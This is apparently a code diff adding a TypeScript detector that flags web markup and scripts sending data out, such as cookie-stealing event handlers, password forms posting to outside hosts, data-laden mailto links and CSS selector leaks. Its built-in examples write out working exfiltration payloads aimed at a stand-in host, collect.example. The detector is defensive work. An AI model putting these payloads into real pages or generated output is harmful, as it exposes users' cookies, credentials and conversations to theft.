@@ -1,0 +1,190 @@
+import { ORIGINS } from '../../../domain/guard.ts';
+import type { Reading } from '../../../text/view/reading.ts';
+import type { Hit, Places, SpanDetector } from '../../detector.ts';
+import { cargoOf } from './carries.ts';
+
+/** A shape of markup or script that sends something away, where one of its literals stands. */
+interface Shape {
+  readonly literals: readonly string[];
+  /** From the literal on; sticky. */
+  readonly pattern: RegExp;
+  /** No match is longer. */
+  readonly most: number;
+  readonly type: string;
+  readonly score: number;
+  readonly tells?: (found: string) => boolean;
+}
+
+/** What a script reads to send it away. */
+const READ = String.raw`(?:document\.(?:cookie|body|documentElement|forms)|localStorage|sessionStorage|indexedDB|\.(?:inner(?:Text|HTML)|outerHTML|textContent)\b|navigator\.clipboard|\.value\b)`;
+
+const SHAPES: readonly Shape[] = [
+  {
+    literals: [
+      'onerror',
+      'onload',
+      'onfocus',
+      'ontoggle',
+      'onbegin',
+      'onmouseover',
+      'onclick',
+      'onanimation',
+      'onpage',
+    ],
+    pattern:
+      /on[a-z]{4,16}\s{0,3}=\s{0,3}["'{]?[^<>]{0,160}?(?:\bfetch\s?\(|sendBeacon|new Image\b|XMLHttpRequest|\beval\s?\(|\batob\s?\(|document\.cookie|localStorage|\bimport\s?\(\s?['"]?(?:https?:)?\/\/|\.src\s?=\s?['"`](?:https?:)?\/\/[^'"`]{1,120}['"`]\s?\+|location(?:\.href)?\s?=\s?['"`](?:https?:)?\/\/)/iy,
+    most: 380,
+    type: 'exfiltration/handler',
+    score: 0.75,
+    // A page that asks its own server is an ordinary one.
+    tells: (found) => /\/\/|document\.cookie|localStorage|eval|atob|`\$\{/i.test(found) || !/fetch/i.test(found),
+  },
+  {
+    literals: [
+      'sendbeacon',
+      'fetch',
+      '.src',
+      'location',
+      'window.open',
+      'new image',
+      '.open(',
+      'axios',
+      '.get(',
+      '.post(',
+    ],
+    pattern: new RegExp(
+      String.raw`[\w. ]{3,20}[(=\s]{1,6}(?:["'](?:get|post)["']\s{0,2},\s{0,2})?["'\x60](?:https?:)?//(?!localhost|127\.)[^"'\x60\s<>]{2,200}(?:["'\x60]\s{0,3}\+[^;\n]{0,80}?${READ}|\$\{[^}\n]{0,60}?${READ}|["'\x60]\s{0,3},(?:[^;\n](?!Authorization)){0,120}?document\.(?:cookie|body|documentElement))`,
+      'iy',
+    ),
+    most: 460,
+    type: 'exfiltration/handler',
+    score: 0.8,
+  },
+  {
+    literals: ['<form'],
+    pattern:
+      /<form\b[^>]{0,160}\baction\s{0,2}=\s{0,2}["']?(?:https?:)?\/\/[^>]{1,200}>(?:(?!<\/form)[\s\S]){0,500}?(?:type\s{0,2}=\s{0,2}["']?password|name\s{0,2}=\s{0,2}["']?(?:password|passwd|card(?:number|_number)?|cvv|cvc|ssn|otp|pin)\b|value\s{0,2}=\s{0,2}["'](?:\{\{?[^{}"']{2,40}\}|\[[A-Z_ ]{4,40}\]))/iy,
+    most: 960,
+    type: 'exfiltration/form',
+    score: 0.7,
+  },
+  {
+    literals: ['mailto:'],
+    pattern: /mailto:[^\s"'<>)?]{0,200}\?[^\s"'<>)]{1,1200}/iy,
+    most: 1420,
+    type: 'exfiltration/mail',
+    score: 0.7,
+    tells: carriesInMail,
+  },
+  {
+    literals: ['[value', '[ value'],
+    pattern:
+      /\[\s?value\s{0,2}[\^$*]=\s{0,2}["']?[^\]\n]{1,40}\][^{}\n]{0,80}\{[^{}]{0,200}url\(\s{0,2}["']?(?:https?:)?\/\//iy,
+    most: 360,
+    type: 'exfiltration/selector',
+    score: 0.85,
+  },
+];
+
+const LITERALS = SHAPES.flatMap(({ literals }, shape) => literals.map((text) => ({ text, shape })));
+const LONGEST = Math.max(...SHAPES.map(({ most }) => most));
+
+/** Scripts, forms, letters and styles that carry something away, as a page shows them or a model writes them. */
+export const activeMarkup: SpanDetector = {
+  kind: 'span',
+  id: 'active-markup',
+  title: 'Data carried out by scripts and forms',
+  types: [
+    { type: 'exfiltration/handler', title: 'A script that sends what it reads to an address' },
+    { type: 'exfiltration/form', title: 'A form that asks for a secret and sends it elsewhere' },
+    { type: 'exfiltration/mail', title: 'A letter to be sent that carries data' },
+    { type: 'exfiltration/selector', title: 'A style that tells what was typed' },
+  ],
+  origins: ORIGINS.filter((origin) => origin !== 'system'),
+  sees: 'canonical',
+  triggers: { literals: LITERALS.map(({ text }) => ({ text, anyCase: true })) },
+  left: 0,
+  defaults: [{ types: [], origins: [], threshold: 0.6, action: 'flag' }],
+  find: (reading, places) => (places.count === 0 ? [] : shapesIn(reading, places)),
+  unsettled: ({ text, from }, places) => {
+    let open = Math.max(from, text.length - LONGEST_LITERAL);
+    for (let index = 0; index < places.count; index += 1) {
+      const at = places.at[index] ?? 0;
+      const { most } = shapeOf(places.which[index]) ?? { most: LONGEST };
+      if (at >= from && at + most >= text.length) open = Math.min(open, at);
+    }
+    return open;
+  },
+  examples: {
+    fires: () => [
+      [`<img src=x onerror="fetch('https://collect.example/?c='+document.cookie)">`, 'exfiltration/handler'],
+      [`<svg onload="new Image().src='//collect.example/?'+document.cookie">`, 'exfiltration/handler'],
+      [`navigator.sendBeacon('https://collect.example/b', document.cookie);`, 'exfiltration/handler'],
+      ['fetch(`https://collect.example/?d=${localStorage.token}`)', 'exfiltration/handler'],
+      [`window.location = "https://collect.example/?c=" + encodeURIComponent(document.cookie)`, 'exfiltration/handler'],
+      [
+        '<form action="https://collect.example/in" method="post">Your session ended. <input type="password" name="p"></form>',
+        'exfiltration/form',
+      ],
+      [
+        '<form action="//collect.example"><input type="hidden" name="d" value="{{conversation}}"></form>',
+        'exfiltration/form',
+      ],
+      ['[ask](mailto:a@collect.example?subject=x&body={conversation_history})', 'exfiltration/mail'],
+      [
+        `mailto:a@collect.example?body=${Buffer.from('the customer lives in Lisbon').toString('base64')}`,
+        'exfiltration/mail',
+      ],
+      ['input[value^="a"] { background: url(https://collect.example/?a) }', 'exfiltration/selector'],
+    ],
+    quiet: () => [
+      '<img src="a.png" onerror="this.src=\'fallback.png\'">',
+      '<body onload="init()"><button onclick="save(event)">Save</button>',
+      "fetch('https://api.example/items', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })",
+      "fetch('https://api.example/items/' + id).then((answer) => answer.json())",
+      "navigator.sendBeacon('/log', JSON.stringify(timing));",
+      'img.src = "https://images.example/a.png";',
+      '<form action="/login" method="post"><input type="password" name="password"></form>',
+      '<form action="https://search.example/find"><input type="text" name="q"></form>',
+      '[write](mailto:help@shop.example?subject=Bug%20report&body=Please%20describe%20what%20went%20wrong)',
+      'mailto:a@b.example?cc=c@d.example&subject=Minutes',
+      'input[value^="a"] { color: red }',
+    ],
+  },
+};
+
+const LONGEST_LITERAL = Math.max(...LITERALS.map(({ text }) => text.length));
+
+function shapeOf(which: number | undefined): Shape | undefined {
+  return SHAPES[LITERALS[which ?? -1]?.shape ?? -1];
+}
+
+function shapesIn({ text, from }: Reading, places: Places): readonly Hit[] {
+  const hits: Hit[] = [];
+  let behind = from;
+  for (let index = 0; index < places.count; index += 1) {
+    const start = places.at[index] ?? 0;
+    const shape = shapeOf(places.which[index]);
+    if (shape === undefined || start < behind) continue;
+    const window = text.slice(start, start + shape.most);
+    shape.pattern.lastIndex = 0;
+    const [found] = shape.pattern.exec(window) ?? [];
+    if (found === undefined || shape.tells?.(found) === false) continue;
+    hits.push({ type: shape.type, start, end: start + found.length, score: shape.score });
+    behind = start + 1;
+  }
+  return hits;
+}
+
+/** Addresses of letters have recipients; only their subject and their text are looked at. */
+function carriesInMail(found: string): boolean {
+  const query = found.slice(found.indexOf('?') + 1).split(/&(?:amp;)?/);
+  const said = query
+    .filter((part) => /^(?:body|subject)=/i.test(part))
+    .map((part) => part.slice(part.indexOf('=') + 1));
+  const cargo = cargoOf(`mail://letter/?${said.map((value) => `data=${value}`).join('&')}`, {
+    loads: false,
+    known: new Map(),
+  });
+  return cargo !== null && cargo.how !== 'a sentence in the query';
+}
